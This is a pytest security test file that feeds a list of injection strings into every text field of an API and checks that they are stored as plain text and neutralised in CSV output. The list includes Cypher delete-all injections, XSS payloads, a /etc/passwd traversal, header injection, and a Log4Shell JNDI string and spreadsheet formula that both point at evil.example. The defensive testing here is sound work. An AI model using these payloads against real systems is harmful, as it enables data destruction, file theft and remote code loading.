"""Texts that mean something to Cypher, HTML, a spreadsheet, a path or a log, in every field that takes a text: they are texts, and nothing else happens."""

from __future__ import annotations

import csv
from typing import Any

import pytest

from tests.api.calls import calls
from tests.api.conftest import V1, Service

HOSTILE = [
    "') DETACH DELETE n //",
    "\"}) MATCH (n) DETACH DELETE n RETURN n //",
    "`]-(x) CALL db.labels() YIELD label //",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example","x")',
    "../../../../etc/passwd",
    "%2e%2e%2f%00",
    "\nfake: line\r\nX-Evil: yes",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "\ud7ff\u202e\u0000x",
]  # fmt: skip


def nodes(service: Service) -> list[dict[str, Any]]:
    """How many nodes there are of each kind that such a text could make or take away."""
    text = "MATCH (n) WHERE NOT n:Session AND NOT n:KeptReply AND NOT n:RecallVersion RETURN labels(n)[0] AS label, count(*) AS n ORDER BY label"
    return service.store.autocommit(text)


def put(value: Any, hostile: str) -> Any:
    """A body with a hostile text in place of every text."""
    if isinstance(value, str):
        return hostile
    if isinstance(value, dict):
        return {name: put(one, hostile) for name, one in value.items()}
    return [put(one, hostile) for one in value] if isinstance(value, list) else value


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_text_is_a_text(service: Service, hostile: str) -> None:
    before = nodes(service)
    caller = service.caller()
    for call in calls(service.app):
        path, asked = call.path, {}
        for one in call.told.get("parameters", ()):
            if one["in"] == "path":
                path = path.replace(f"{{{one['name']}}}", "forward" if one["name"] == "direction" else "x")
            elif one["in"] == "query":
                asked[one["name"]] = hostile
        content = call.told.get("requestBody", {}).get("content", {})
        body = {"json": put(content["application/json"]["example"], hostile)} if "application/json" in content else {}
        if path.endswith("/events"):
            continue
        answer = caller.request(call.method, path, params=asked, **body)
        assert answer.status_code < 500, f"{call.method} {path}: {answer.text[:300]}"
        assert "X-Evil" not in answer.headers
        assert "html" not in answer.headers["Content-Type"]
    assert nodes(service) == before


def test_a_formula_in_a_table_is_a_text(service: Service) -> None:
    formula = '=HYPERLINK("http://evil.example","x")'
    line = {"lot_key": f"|F|{formula}", "quantity": "1", "unit": "KG", "location_id": "W1-B001", "supplier_lot_number": formula}
    event = {"type": "LotReceived", "event_id": "api|receipt|F|1", "source": "api", "document": "F", "receipt_id": "@F", "supplier_id": "+F", "lines": [line]}
    assert service.post("/events", [event]).json()["outcomes"][0]["status"] == "recorded"
    answer = service.caller().get(f"{V1}/trace/backward", params={"start": f"lot:|F|{formula}"}, headers={"Accept": "text/csv"})
    assert answer.status_code == 200, answer.text
    for row in csv.reader(answer.text.splitlines()):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
